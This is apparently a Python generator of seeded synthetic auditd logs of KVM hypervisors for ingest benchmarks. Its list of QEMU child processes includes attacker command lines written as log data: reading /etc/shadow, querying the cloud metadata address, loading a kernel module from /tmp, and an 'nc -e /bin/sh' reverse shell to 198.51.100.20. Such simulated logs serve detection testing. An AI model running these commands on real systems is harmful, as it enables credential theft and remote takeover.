"""Synthetic auditd logs of the hypervisors for the ingest benchmarks.

Modelled on `../shared/samples` and on the RHEL 9 records of
`tests/ingest/parsers/test_auditd_attacks.py`, for the demo inventory's hosts
(`fenghuo/demo/inventory.yaml`): QEMU processes started with `-name guest=NAME` under their VM's
sVirt label, their children and grandchildren, host daemons and logins, disk opens, connects,
the odd SECCOMP kill and AVC denial. Seeded, so every run sees the same input.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from bench.corpus import Corpus

BASE_TIME = 1_767_607_200  # 2026-01-05T10:00:00Z, as in the shared samples

# host -> (VM name, sVirt MCS categories); the last VM of hv-02 is not in the inventory.
VMS: dict[str, list[tuple[str, str]]] = {
    "hv-01": [
        ("acme-web-1", "c101,c202"),
        ("acme-db-1", "c105,c206"),
        ("globex-db-1", "c303,c404"),
    ],
    "hv-02": [
        ("initech-app-1", "c410,c511"),
        ("umbrella-api-1", "c612,c713"),
        ("lab-vm-9", "c900,c901"),
    ],
}
QEMU = "/usr/libexec/qemu-kvm"
LD_SO = "/lib64/ld-linux-x86-64.so.2"
PATH_TAIL = "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
HOST_LABEL = "system_u:system_r:unconfined_service_t:s0"
USER_LABEL = "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"

# Host programs: (exe, argv, SELinux type of the exe)
HOST_PROGRAMS: list[tuple[str, tuple[str, ...], str]] = [
    ("/usr/bin/systemctl", ("systemctl", "status", "libvirtd"), "systemd_systemctl_exec_t"),
    ("/usr/bin/virsh", ("virsh", "list", "--all"), "virsh_exec_t"),
    ("/usr/sbin/ip", ("ip", "-s", "link", "show"), "ifconfig_exec_t"),
    ("/usr/bin/grep", ("grep", "--color=auto", "qemu"), "bin_t"),
    ("/usr/bin/ps", ("ps", "-eo", "pid,args"), "bin_t"),
    ("/usr/sbin/dmidecode", ("dmidecode", "-t", "system"), "dmidecode_exec_t"),
    ("/usr/bin/python3.9", ("/usr/bin/python3", "/usr/libexec/node-exporter.py"), "bin_t"),
]
# Programs a QEMU process (or its child) runs: helpers, and what an attacker would run.
QEMU_CHILDREN: list[tuple[str, tuple[str, ...], str]] = [
    ("/usr/libexec/qemu-bridge-helper", ("qemu-bridge-helper", "--br=virbr0", "--fd=27"), "bin_t"),
    ("/usr/bin/bash", ("/bin/sh", "-c", "id ; cat /etc/shadow"), "shell_exec_t"),
    ("/usr/bin/curl", ("curl", "-s", "http://169.254.169.254/latest/meta-data/"), "bin_t"),
    ("/usr/bin/kmod", ("insmod", "/tmp/.x/vhost_esc.ko"), "insmod_exec_t"),
    ("/usr/bin/nc", ("nc", "-e", "/bin/sh", "198.51.100.20", "4444"), "bin_t"),
]


def hexs(argv: tuple[str, ...]) -> str:
    """argv as auditd hex-encodes it (PROCTITLE, unsafe EXECVE args): NUL-separated, upper."""
    return "00".join(arg.encode().hex().upper() for arg in argv)


def execve_arg(index: int, arg: str) -> str:
    if arg and all(33 <= ord(c) < 127 and c != '"' for c in arg):
        return f'a{index}="{arg}"'
    return f"a{index}={arg.encode().hex().upper()}"


@dataclass
class _Host:
    name: str
    next_pid: int = 20_000
    serial: int = 100_000
    qemu: dict[str, int] = field(default_factory=dict)  # VM -> QEMU pid
    children: list[tuple[int, str]] = field(default_factory=list)  # (pid, label) under a QEMU

    def pid(self) -> int:
        self.next_pid = self.next_pid + 1 if self.next_pid < 4_000_000 else 20_000
        return self.next_pid


class AuditdWriter:
    """One host's audit stream: each method returns the lines of one audit event."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.time = float(BASE_TIME)
        self.hosts = {name: _Host(name) for name in VMS}

    def _stamp(self, host: _Host) -> str:
        self.time += self.rng.expovariate(400.0)  # ~400 events/s across the hosts
        host.serial += 1
        seconds = int(self.time)
        millis = int((self.time - seconds) * 1000)
        return f"node={host.name} type={{}} msg=audit({seconds}.{millis:03d}:{host.serial}):"

    def _syscall(
        self, head: str, nr: int, *, pid: int, ppid: int, exe: str, label: str, **kw: object
    ) -> str:
        rng = self.rng
        uid = kw.get("uid", 0)
        success = kw.get("success", "yes")
        a = [f"{rng.getrandbits(44):x}" for _ in range(3)]
        return (
            f"{head.format('SYSCALL')} arch=c000003e syscall={nr} success={success} "
            f"exit={kw.get('exit', 0)} a0={kw.get('a0', a[0])} a1={a[1]} a2={a[2]} a3=0 "
            f"items={kw.get('items', 2)} ppid={ppid} pid={pid} auid={kw.get('auid', 4294967295)} "
            f"uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} "
            f"fsgid={uid} tty={kw.get('tty', '(none)')} ses={kw.get('ses', 4294967295)} "
            f'comm="{exe.rsplit("/", 1)[-1][:15]}" exe="{exe}" subj={label} '
            f'key="{kw.get("key", "exec")}"'
        )

    def exec_event(
        self, host: _Host, exe: str, argv: tuple[str, ...], exe_type: str, **kw: object
    ) -> list[str]:
        """SYSCALL execve + EXECVE + CWD + 2 PATH + PROCTITLE + EOE: 7 records."""
        head = self._stamp(host)
        pid, ppid = kw.pop("pid"), kw.pop("ppid")
        assert isinstance(pid, int)
        assert isinstance(ppid, int)
        label = str(kw.pop("label"))
        args = " ".join(execve_arg(i, arg) for i, arg in enumerate(argv))
        inode = self.rng.randrange(1_000_000, 9_000_000)
        return [
            self._syscall(head, 59, pid=pid, ppid=ppid, exe=exe, label=label, **kw),
            f"{head.format('EXECVE')} argc={len(argv)} {args}",
            f'{head.format("CWD")} cwd="{kw.get("cwd", "/")}"',
            f'{head.format("PATH")} item=0 name="{exe}" inode={inode} dev=fd:00 mode=0100755 '
            f"ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:{exe_type}:s0 {PATH_TAIL}",
            f'{head.format("PATH")} item=1 name="{LD_SO}" inode=1180383 dev=fd:00 mode=0100755 '
            f"ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:ld_so_t:s0 {PATH_TAIL}",
            f"{head.format('PROCTITLE')} proctitle={hexs(argv)}",
            f"{head.format('EOE')}",
        ]

    def qemu_start(self, host: _Host, vm: str, categories: str) -> list[str]:
        pid = host.pid()
        host.qemu[vm] = pid
        argv = (
            QEMU,
            "-name",
            f"guest={vm},debug-threads=on",
            "-S",
            "-machine",
            "pc-q35-rhel9.2.0,usb=off,dump-guest-core=off",
            "-m",
            "4096",
        )
        label = f"system_u:system_r:svirt_t:s0:{categories}"
        return self.exec_event(
            host, QEMU, argv, "qemu_exec_t", pid=pid, ppid=1, uid=107, label=label, key="vmm-exec"
        )

    def qemu_child(self, host: _Host) -> list[str]:
        rng = self.rng
        if host.children and rng.random() < 0.3:
            ppid, label = rng.choice(host.children)  # a grandchild
        else:
            vm, categories = rng.choice(VMS[host.name])
            ppid, label = host.qemu[vm], f"system_u:system_r:svirt_t:s0:{categories}"
        exe, argv, exe_type = rng.choice(QEMU_CHILDREN)
        pid = host.pid()
        host.children.append((pid, label))
        del host.children[:-200]
        return self.exec_event(
            host, exe, argv, exe_type, pid=pid, ppid=ppid, uid=107, label=label, key="vmm-exec"
        )

    def host_exec(self, host: _Host) -> list[str]:
        exe, argv, exe_type = self.rng.choice(HOST_PROGRAMS)
        login = self.rng.random() < 0.4
        return self.exec_event(
            host,
            exe,
            argv,
            exe_type,
            pid=host.pid(),
            ppid=self.rng.randrange(900, 2000),
            label=USER_LABEL if login else HOST_LABEL,
            auid=1000 if login else 4294967295,
            uid=0,
            ses=12 if login else 4294967295,
            tty="pts0" if login else "(none)",
            cwd="/root" if login else "/",
            key="exec",
        )

    def disk_open(self, host: _Host) -> list[str]:
        """QEMU opening its own disk image: SYSCALL openat + CWD + PATH + PROCTITLE + EOE."""
        vm, categories = self.rng.choice(VMS[host.name])
        head = self._stamp(host)
        label = f"system_u:system_r:svirt_t:s0:{categories}"
        image = f"system_u:object_r:svirt_image_t:s0:{categories}"
        pid = host.qemu[vm]
        return [
            self._syscall(
                head,
                257,
                pid=pid,
                ppid=1,
                exe=QEMU,
                label=label,
                uid=107,
                exit=27,
                a0="ffffff9c",
                items=1,
                key="vm-disks",
            ),
            f'{head.format("CWD")} cwd="/"',
            f'{head.format("PATH")} item=0 name="/var/lib/libvirt/images/{vm}.qcow2" '
            f"inode={3_400_000 + pid % 1000} dev=fd:00 mode=0100600 ouid=107 ogid=107 "
            f"rdev=00:00 obj={image} {PATH_TAIL}",
            f"{head.format('PROCTITLE')} proctitle={hexs((QEMU, '-name', f'guest={vm}'))}",
            f"{head.format('EOE')}",
        ]

    def connect(self, host: _Host) -> list[str]:
        """A host daemon connecting out: SYSCALL connect + SOCKADDR + PROCTITLE + EOE."""
        head = self._stamp(host)
        port = self.rng.choice((443, 53, 5432, 16509))
        saddr = f"0200{port:04X}C0A80A{self.rng.randrange(1, 250):02X}0000000000000000"
        exe = "/usr/sbin/libvirtd"
        return [
            self._syscall(
                head, 42, pid=1500, ppid=1, exe=exe, label=HOST_LABEL, items=0, key="net-connect"
            ),
            f"{head.format('SOCKADDR')} saddr={saddr}",
            f"{head.format('PROCTITLE')} proctitle={hexs((exe, '--timeout', '120'))}",
            f"{head.format('EOE')}",
        ]

    def login(self, host: _Host) -> list[str]:
        head = self._stamp(host)
        kind = self.rng.choice(("USER_LOGIN", "CRED_ACQ", "USER_START", "USER_END"))
        addr = f"192.168.10.{self.rng.randrange(2, 250)}"
        return [
            f"{head.format(kind)} pid={host.pid()} uid=0 auid=1000 ses=12 "
            f"subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login id=1000 "
            f'exe="/usr/sbin/sshd" hostname=? addr={addr} terminal=ssh res=success\''
        ]

    def seccomp(self, host: _Host) -> list[str]:
        vm, categories = self.rng.choice(VMS[host.name])
        head = self._stamp(host)
        return [
            f"{head.format('SECCOMP')} auid=4294967295 uid=107 gid=107 ses=4294967295 "
            f"subj=system_u:system_r:svirt_t:s0:{categories} pid={host.qemu[vm]} "
            f'comm="qemu-kvm" exe="{QEMU}" sig=31 arch=c000003e syscall=59 compat=0 '
            f"ip=0x7f0e3c2e4f1b code=0x80000000"
        ]

    def denial(self, host: _Host) -> list[str]:
        """One VM's QEMU denied another VM's disk: AVC + SYSCALL + CWD + PATH + PROCTITLE + EOE."""
        (vm, cats), (other, other_cats) = self.rng.sample(VMS[host.name], 2)
        head = self._stamp(host)
        label = f"system_u:system_r:svirt_t:s0:{cats}"
        target = f"system_u:object_r:svirt_image_t:s0:{other_cats}"
        pid = host.qemu[vm]
        return [
            f'{head.format("AVC")} avc:  denied  {{ read write }} for  pid={pid} comm="qemu-kvm" '
            f'name="{other}.qcow2" dev="dm-0" ino=3407873 scontext={label} tcontext={target} '
            f"tclass=file permissive=0",
            self._syscall(
                head,
                257,
                pid=pid,
                ppid=1,
                exe=QEMU,
                label=label,
                uid=107,
                exit=-13,
                success="no",
                a0="ffffff9c",
                items=1,
                key="(null)",
            ),
            f'{head.format("CWD")} cwd="/"',
            f'{head.format("PATH")} item=0 name="/var/lib/libvirt/images/{other}.qcow2" '
            f"inode=3407873 dev=fd:00 mode=0100600 ouid=107 ogid=107 rdev=00:00 obj={target} "
            f"{PATH_TAIL}",
            f"{head.format('PROCTITLE')} proctitle={hexs((QEMU, '-name', f'guest={vm}'))}",
            f"{head.format('EOE')}",
        ]


def auditd(records: int, seed: int = 1) -> Corpus:
    """About `records` audit records (lines), whole events only."""
    rng = random.Random(seed)
    writer = AuditdWriter(rng)
    units: list[list[str]] = []
    for host in writer.hosts.values():  # every VM's QEMU first, so children resolve
        units.extend(writer.qemu_start(host, vm, cats) for vm, cats in VMS[host.name])
    kinds = (
        (0.05, lambda h: writer.qemu_start(h, *rng.choice(VMS[h.name]))),
        (0.20, writer.qemu_child),
        (0.30, writer.host_exec),
        (0.20, writer.disk_open),
        (0.12, writer.connect),
        (0.09, writer.login),
        (0.02, writer.seccomp),
        (0.02, writer.denial),
    )
    weights = [w for w, _ in kinds]
    makers = [m for _, m in kinds]
    total = sum(len(u) for u in units)
    hosts = list(writer.hosts.values())
    while total < records:
        lines = rng.choices(makers, weights)[0](rng.choice(hosts))
        units.append(lines)
        total += len(lines)
    return Corpus.of("auditd", "auditd", units, host_id=None)
